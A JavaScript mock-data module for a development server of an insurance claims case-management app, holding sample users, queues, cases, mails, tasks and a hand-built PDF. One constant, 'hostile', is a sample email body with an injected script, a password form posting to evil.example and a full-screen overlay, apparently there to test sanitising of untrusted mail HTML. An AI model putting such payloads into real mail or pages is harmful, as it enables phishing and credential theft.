// Realistic data for the development mock; only used by dev/mock-server.mjs. Everything is made up.
import { readFileSync } from 'node:fs';

const examples = new URL('../../examples/claims/', import.meta.url);
export const read = (name) => readFileSync(new URL(name, examples), 'utf8');
const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
export const at = (offset) => new Date(Date.now() + offset).toISOString();

export const users = [
  { id: 'anna', name: 'Anna Meyer', email: 'anna.meyer@harbor.example' },
  { id: 'ben', name: 'Ben Okafor', email: 'ben.okafor@harbor.example' },
  { id: 'clara', name: 'Clara Lindqvist', email: 'clara.lindqvist@harbor.example' },
  { id: 'dev', name: 'Devi Raman', email: 'devi.raman@harbor.example' },
];
const person = (id) => {
  const user = users.find((each) => each.id === id);
  return user === undefined ? null : { id: user.id, name: user.name };
};

const claim = JSON.parse(read('claim.case.json'));
export const definitions = [
  { version: 3, ...claim },
  {
    key: 'complaint',
    name: 'Complaint',
    description: 'Complaints about our service, answered within two working days',
    version: 1,
    caseNumberPrefix: 'CPL',
    stages: [
      { id: 'triage', name: 'Triage' },
      { id: 'answer', name: 'Answer' },
    ],
    statuses: claim.statuses,
    fields: [
      { key: 'channel', label: 'Channel', type: 'string', required: true },
      { key: 'urgent', label: 'Urgent', type: 'boolean' },
    ],
    createForm: null,
    processes: [],
    queues: ['claims'],
    defaultQueue: 'claims',
  },
];
export const queues = [
  {
    id: 'claims',
    name: 'Claims desk',
    description: 'New and open claims',
    members: { users: [], groups: ['claims'] },
    settings: {
      strategy: 'round-robin',
      skills: [{ skill: 'german', level: 2 }],
      capacity: 20,
      pause: null,
      overflow: null,
    },
    openCount: 18,
    takeableCount: 4,
    atRiskCount: 2,
    waitingSince: at(-3 * HOUR),
    isChangeable: true,
    version: 3,
  },
  {
    id: 'decisions',
    name: 'Decisions',
    description: 'Claims to decide',
    members: { users: [], groups: ['supervisors'] },
    settings: {
      strategy: 'pull',
      skills: [],
      capacity: null,
      pause: { reason: 'Yearly audit' },
      overflow: { to: 'claims', afterMinutes: 60, length: null },
    },
    openCount: 3,
    takeableCount: 0,
    atRiskCount: 0,
    waitingSince: null,
    isChangeable: true,
    version: 1,
  },
];
const weekdays = ['monday', 'tuesday', 'wednesday', 'thursday', 'friday'];
export const calendars = [
  {
    id: 'harbor',
    name: 'Harbor Insurance',
    description: '',
    timeZone: 'Europe/Berlin',
    hours: [
      { days: weekdays, from: '08:30', to: '12:30' },
      { days: weekdays, from: '13:15', to: '17:00' },
    ],
    holidays: [{ date: '2026-12-25', name: 'Christmas Day', region: null }],
    regions: ['DE-BY'],
    updatedAt: at(-3 * DAY),
    version: 2,
  },
];
export const availability = {
  person: { id: 'anna', name: 'Anna Meyer' },
  skills: [{ skill: 'german', level: 3 }],
  capacity: 20,
  absences: [{ from: at(3 * DAY), to: at(9 * DAY), substitute: 'ben' }],
  load: 4,
  isAbsent: false,
  acting: { id: 'anna', name: 'Anna Meyer' },
  mayQualify: false,
  version: 1,
};
export const standsIn = [{ person: { id: 'ben', name: 'Ben Okafor' }, until: at(2 * DAY), load: 3 }];
export const forms = Object.fromEntries(
  ['claim-new', 'claim-check', 'claim-assess', 'claim-approve', 'site-visit'].map((key) => [
    key,
    JSON.parse(read(`forms/${key}.form`)),
  ]),
);

const titles = [
  'Water damage in the kitchen',
  'Broken shop window',
  'Storm took roof tiles',
  'Stolen bicycle, locked cellar',
  'Fire damage in garage',
  'Burst pipe on the second floor',
  'Hail damage to car',
  'Laptop fell during commute',
  'Flooded basement after heavy rain',
  'Lightning damaged heating control',
  'Vandalised garden fence',
  'Cracked ceramic hob',
  'Mould after leaking washing machine and a rather long story about who knew what when',
  'Lost luggage in Lisbon',
];
const people = ['Mara Jensen', 'Tom Becker', 'Ines Duarte', 'Piotr Nowak', 'Yuki Tanaka', 'Lena Fischer'];

function sla(index) {
  const states = [
    ['running', 3 * HOUR + 20 * MINUTE],
    ['atRisk', 38 * MINUTE],
    ['breached', -95 * MINUTE],
    ['paused', 2 * DAY],
    ['met', 0],
    ['running', 2 * DAY + 3 * HOUR],
  ];
  const [state, left] = states[index % states.length];
  const rest = { level: 'case', of: null, calendar: null, pausedBy: null, escalated: 0, goalAt: null };
  return [
    {
      ...rest,
      id: 'resolution',
      name: 'Resolution',
      state: 'running',
      dueAt: at(4 * DAY),
      goalAt: at(2 * DAY),
      remainingSeconds: (4 * DAY) / 1000,
      remainingWorking: (4 * DAY) / 3000,
      target: 144_000,
      calendar: 'harbor',
    },
    {
      ...rest,
      target: 14_400,
      remainingWorking: Math.trunc(left / 1000),
      pausedBy: state === 'paused' ? { kind: 'status', name: 'Waiting for customer' } : null,
      escalated: state === 'breached' ? 100 : 0,
      id: 'first-response',
      name: 'First response',
      state,
      dueAt: state === 'paused' || state === 'met' ? null : at(left),
      remainingSeconds: state === 'met' ? null : Math.trunc(left / 1000),
    },
  ];
}

export function makeCase(index, overrides = {}) {
  const stage = claim.stages[index % 3];
  const status = index % 11 === 10 ? claim.statuses[3] : index % 4 === 3 ? claim.statuses[1] : claim.statuses[0];
  const name = people[index % people.length];
  const owner = [null, 'anna', 'ben', 'anna', 'clara'][index % 5];
  return {
    id: `case-${index}`,
    number: `CLM-${String(index + 1).padStart(6, '0')}`,
    version: 3,
    definition: 'claim',
    definitionName: 'Claim',
    title: titles[index % titles.length],
    stage: stage.id,
    stageName: stage.name,
    status: status.id,
    statusName: status.name,
    statusKind: status.kind,
    queue: 'claims',
    assignee: person(owner),
    requester: { name, email: `${name.toLowerCase().replace(' ', '.')}@mail.example` },
    priority: [50, 80, 20][index % 3],
    urgency: [350, 700, 200][index % 3],
    skills: [],
    fields: {
      policyNumber: `P-${10_000 + index * 37}`,
      ...(index === 1
        ? {
            happenedAt: '2026-11-20T22:15:00+01:00[Europe/Berlin]',
            perils: ['Water', 'Storm'],
            items: [
              { what: 'Washing machine', bought: '2024-03-01', worth: { amount: '1200.00', currency: 'EUR' } },
              { what: 'Carpet', worth: { amount: '6300.50', currency: 'EUR' } },
            ],
            itemsTotal: { amount: '7500.50', currency: 'EUR' },
            repairTime: 'P2DT4H',
            expert: person('ben'),
            estimate: { amount: '7500.50', currency: 'EUR' },
            estimateReason: 'The carpet was made by hand.',
            earlierClaim: { id: 'case-0', number: 'CLM-000001' },
          }
        : {}),
      amount: 420 + index * 113.5,
      damage: ['water', 'glass', 'storm', 'theft'][index % 4],
      description: 'The customer sent pictures and an estimate.',
    },
    labels: index % 6 === 0 ? ['pictures'] : [],
    createdAt: at(-index * 5 * HOUR - HOUR),
    createdBy: person('anna'),
    updatedAt: at(-index * 41 * MINUTE),
    closedAt: status.kind === 'closed' ? at(-HOUR) : null,
    closeReason: status.kind === 'closed' ? 'Paid out' : null,
    dueAt: index % 3 === 0 ? at(2 * DAY) : null,
    slas:
      status.kind === 'closed'
        ? [{ id: 'first-response', name: 'First response', state: 'met', dueAt: null, remainingSeconds: null }]
        : sla(index),
    holds: [],
    disposeAt: null,
    openTaskCount: index % 3 === 2 ? 0 : 1,
    unreadMailCount: index % 4 === 0 ? 2 : 0,
    problem:
      index === 7
        ? {
            step: 'register-claim',
            reason: 'The policy system did not answer for 30 minutes; the registration was undone.',
            at: at(-HOUR),
            undone: false,
          }
        : null,
    processInstances: [{ id: `pi-${index}`, definitionKey: 'claim-handling', name: 'Claim handling', state: 'ACTIVE' }],
    ...overrides,
  };
}

export function timelineOf(item) {
  const entry = (id, offset, actor, kind, summary, data = {}) => ({
    id: String(id),
    at: at(offset),
    actor: typeof actor === 'string' ? person(actor) : actor,
    kind,
    summary,
    data,
  });
  const system = { id: 'system:rules', name: 'Casewright' };
  return [
    entry(14, -12 * MINUTE, 'ben', 'comment-added', 'Commented', {
      body: 'Spoke to the customer. The plumber can come on Thursday morning.\n@Anna Meyer can you check the policy?',
      commentId: 'c2',
    }),
    entry(13, -40 * MINUTE, system, 'mail-received', 'Mail received', {
      from: item.requester.email,
      subject: 'Re: Water in the kitchen',
    }),
    entry(12, -2 * HOUR, 'anna', 'mail-sent', 'Mail sent', {
      to: [item.requester.email],
      subject: 'We received your claim',
    }),
    entry(11, -3 * HOUR, 'anna', 'task-claimed', 'Task claimed', { task: { name: 'Check papers', assignee: 'anna' } }),
    entry(10, -4 * HOUR, 'anna', 'comment-added', 'Commented', {
      body: 'Pictures are fine, the estimate is missing the VAT number.',
      commentId: 'c1',
    }),
    entry(9, -5 * HOUR, 'anna', 'field-changed', 'Changed amount', {
      changes: [{ key: 'amount', before: 420, after: 1240.5 }],
    }),
    entry(8, -6 * HOUR, system, 'sla-at-risk', 'At risk', { name: 'First response' }),
    entry(7, -22 * HOUR, 'anna', 'stage-changed', 'Stage changed', {
      from: { id: 'intake', name: 'Intake' },
      to: { id: 'assessment', name: 'Assessment' },
    }),
    entry(6, -25 * HOUR, system, 'step-failed', 'Step failed', {
      step: 'Register claim',
      reason: 'policy system did not answer',
    }),
    entry(5, -26 * HOUR, system, 'task-created', 'Task created', { task: { name: 'Check papers' } }),
    entry(4, -26 * HOUR, system, 'document-added', 'Document added', { document: { name: 'estimate.pdf' } }),
    entry(3, -27 * HOUR, 'anna', 'assigned', 'Assigned', { from: null, to: person('anna') }),
    entry(2, -27 * HOUR, system, 'process-started', 'Process started', { name: 'Claim handling' }),
    entry(1, -27 * HOUR, system, 'case-created', 'Case created', { title: item.title }),
  ];
}

const hostile =
  '<p>Hello,</p><p>please find the <b>pictures</b> attached. <a href="https://example.test/claim">Our page</a></p><img src="https://tracker.example/pixel.png"><script>parent.document.title = "owned"</script><form action="https://evil.example"><input name="password"></form><div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/x)">cover</div><p>Kind regards<br>Mara</p>';
export function mailsOf(item) {
  const customer = { name: item.requester.name, address: item.requester.email };
  const desk = { name: 'Harbor Claims', address: 'claims@harbor.example' };
  const attachments = [
    { id: 'a1', fileId: 'file-pdf', name: 'estimate.pdf', contentType: 'application/pdf', size: 1_204 },
    { id: 'a2', fileId: 'file-png', name: 'kitchen.png', contentType: 'image/png', size: 68_211 },
    { id: 'a3', fileId: 'file-txt', name: 'notes.txt', contentType: 'text/plain', size: 412 },
  ];
  const base = {
    references: [],
    cc: [],
    caseId: item.id,
    problem: null,
    deliveries: [],
    attachments: [],
    inReplyTo: null,
  };
  return [
    {
      ...base,
      id: `${item.id}-m1`,
      direction: 'in',
      messageId: '<m1@mail.example>',
      from: customer,
      to: [desk],
      subject: 'Water in the kitchen',
      sentAt: at(-27 * HOUR),
      receivedAt: at(-27 * HOUR),
      text: 'Hello',
      html: hostile,
      attachments,
      state: 'processed',
    },
    {
      ...base,
      id: `${item.id}-m2`,
      direction: 'out',
      messageId: '<m2@harbor.example>',
      inReplyTo: '<m1@mail.example>',
      from: desk,
      to: [customer],
      subject: 'Re: Water in the kitchen',
      sentAt: at(-2 * HOUR),
      receivedAt: null,
      text: 'Dear Ms Jensen,\n\nwe received your claim. Could you send us the VAT number of the plumber?\n\nKind regards\nAnna Meyer',
      html: null,
      state: 'sent',
      deliveries: [{ to: customer.address, state: 'sent', at: at(-2 * HOUR), answer: '250 2.0.0 Ok: queued as 4F2A' }],
    },
    {
      ...base,
      id: `${item.id}-m3`,
      direction: 'in',
      messageId: '<m3@mail.example>',
      inReplyTo: '<m2@harbor.example>',
      from: customer,
      to: [desk],
      cc: [{ name: 'Plumber Ltd', address: 'office@plumber.example' }],
      subject: 'Re: Water in the kitchen',
      sentAt: at(-40 * MINUTE),
      receivedAt: at(-40 * MINUTE),
      text: 'Of course, it is DE 123 456 789.\n\nBest\nMara\n\nOn Friday, Harbor Claims wrote:\n> Dear Ms Jensen,\n> we received your claim.',
      html: null,
      state: 'processed',
    },
  ];
}

export function tasksFor(cases) {
  const kinds = [
    ['check-papers', 'Check papers', 'claim-check'],
    ['assess-claim', 'Assess claim', 'claim-assess'],
    ['approve-payment', 'Approve payment', 'claim-approve'],
  ];
  return cases
    .filter((item) => item.openTaskCount > 0 && item.statusKind !== 'closed')
    .slice(0, 40)
    .map((item, index) => {
      const [key, name, form] = kinds[index % 3];
      return {
        id: `task-${index}`,
        name,
        source: 'process',
        owner: index === 6 ? 'ben' : null,
        isDelegated: index === 6,
        candidateUsers: [],
        processInstanceId: item.processInstances[0].id,
        processDefinitionId: 'claim-handling:3',
        processDefinitionKey: 'claim-handling',
        taskDefinitionKey: key,
        assignee: index % 3 === 0 ? 'anna' : index % 3 === 1 ? null : 'ben',
        candidateGroups: ['claims'],
        createdAt: at(-(index + 1) * 3 * HOUR),
        dueAt: index % 4 === 3 ? null : at((index - 2) * 7 * HOUR),
        followUpAt: index % 5 === 0 ? at((index + 20) * HOUR) : null,
        priority: 50,
        caseId: item.id,
        caseNumber: item.number,
        caseTitle: item.title,
        formKey: form,
        version: 1,
      };
    });
}

export const notifications = [
  {
    id: 'n1',
    kind: 'mention',
    title: 'Ben Okafor mentioned you in CLM-000002',
    body: 'Can you check the policy?',
    link: '/cases/CLM-000002/overview',
    caseId: 'case-1',
    createdAt: at(-12 * MINUTE),
    readAt: null,
    deliveries: [
      { channel: 'in-app', state: 'sent', at: at(-12 * MINUTE), answer: null },
      { channel: 'email', state: 'sent', at: at(-11 * MINUTE), answer: '250 Ok' },
    ],
  },
  {
    id: 'n2',
    kind: 'sla-breached',
    title: 'First response of CLM-000003 was breached',
    body: 'Storm took roof tiles',
    link: '/cases/CLM-000003/overview',
    caseId: 'case-2',
    createdAt: at(-95 * MINUTE),
    readAt: null,
    deliveries: [
      { channel: 'email', state: 'failed', at: at(-90 * MINUTE), answer: '550 5.1.1 mailbox unavailable' },
      { channel: 'sms', state: 'suppressed', at: null, answer: 'switched off by you' },
    ],
  },
  {
    id: 'n3',
    kind: 'task-assigned',
    title: 'Task “Check papers” was assigned to you',
    body: null,
    link: '/tasks/task-0',
    caseId: 'case-0',
    createdAt: at(-5 * HOUR),
    readAt: at(-4 * HOUR),
    deliveries: [],
  },
];

export const processDefinitions = [
  {
    id: 'claim-handling:3',
    key: 'claim-handling',
    name: 'Claim handling',
    version: 3,
    versionTag: '1.2',
    deploymentId: 'd1',
    deployedAt: at(-3 * DAY),
    deployedBy: 'Devi Raman',
    runningInstances: 23,
    incidents: 2,
    file: 'claim-handling.bpmn',
  },
  {
    id: 'email-to-case:1',
    key: 'email-to-case',
    name: 'E-mail to case',
    version: 1,
    versionTag: null,
    deploymentId: 'd1',
    deployedAt: at(-3 * DAY),
    deployedBy: 'Devi Raman',
    runningInstances: 1,
    incidents: 0,
    file: 'email-to-case.bpmn',
  },
  {
    id: 'site-visit:1',
    key: 'site-visit',
    name: 'Site visit',
    version: 1,
    versionTag: null,
    deploymentId: 'd1',
    deployedAt: at(-3 * DAY),
    deployedBy: 'Devi Raman',
    runningInstances: 4,
    incidents: 0,
    file: 'site-visit.bpmn',
  },
];

/** Walks a BPMN file from its start, so that the mock's tokens stand where they could stand. */
export function walk(xml, stopAt) {
  const flows = [...xml.matchAll(/<bpmn:sequenceFlow [^>]*id="([^"]+)"[^>]*>/g)].map((match) => ({
    id: match[1],
    source: /sourceRef="([^"]+)"/.exec(match[0])[1],
    target: /targetRef="([^"]+)"/.exec(match[0])[1],
  }));
  const start = /<bpmn:startEvent [^>]*id="([^"]+)"/.exec(xml)[1];
  const previous = new Map([[start, null]]);
  const queue = [start];
  while (queue.length > 0) {
    const node = queue.shift();
    if (node === stopAt) break;
    for (const flow of flows.filter((each) => each.source === node)) {
      if (previous.has(flow.target)) continue;
      previous.set(flow.target, flow);
      queue.push(flow.target);
    }
  }
  const activities = [];
  const taken = [];
  for (
    let node = stopAt, flow = previous.get(stopAt);
    node !== undefined;
    node = flow?.source, flow = node === undefined ? undefined : previous.get(node)
  ) {
    activities.unshift({ elementId: node, state: node === stopAt ? 'active' : 'completed', count: 1 });
    if (flow == null) break;
    taken.unshift(flow.id);
  }
  return { activities, flows: taken };
}

export const incidents = [
  {
    id: 'i1',
    message: 'Policy system answered 503 after 3 attempts',
    type: 'failedExternalTask',
    elementId: 'register-claim',
    elementName: 'Register claim',
    createdAt: at(-50 * MINUTE),
    processInstanceId: 'pi-7',
    definitionKey: 'claim-handling',
    definitionName: 'Claim handling',
    businessKey: 'CLM-000008',
    retries: 0,
  },
  {
    id: 'i2',
    message: 'Unknown property used in expression: ${amont}. Cause: Cannot resolve identifier "amont"',
    type: 'failedJob',
    elementId: 'decide',
    elementName: 'Decide claim',
    createdAt: at(-3 * HOUR),
    processInstanceId: 'pi-4',
    definitionKey: 'claim-handling',
    definitionName: 'Claim handling',
    businessKey: 'CLM-000005',
    retries: 0,
  },
];

export const stuckMails = [
  {
    ...mailsOf(makeCase(0))[0],
    id: 'mail-stuck',
    caseId: null,
    state: 'undeliverable',
    problem: 'No process definition with key “email-to-case” is deployed',
    subject: 'Broken window at the shop',
    attachments: [],
  },
];

/** A one-page PDF with a line of text, written out by hand. */
export function pdf(text) {
  const stream = `BT /F1 20 Tf 60 740 Td (${text}) Tj 0 -34 Td /F1 12 Tf (Kitchen, 3 hours of work, materials included. Total 1,240.50 EUR) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const offset = out.length;
    out += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF`;
  return Buffer.from(out, 'latin1');
}
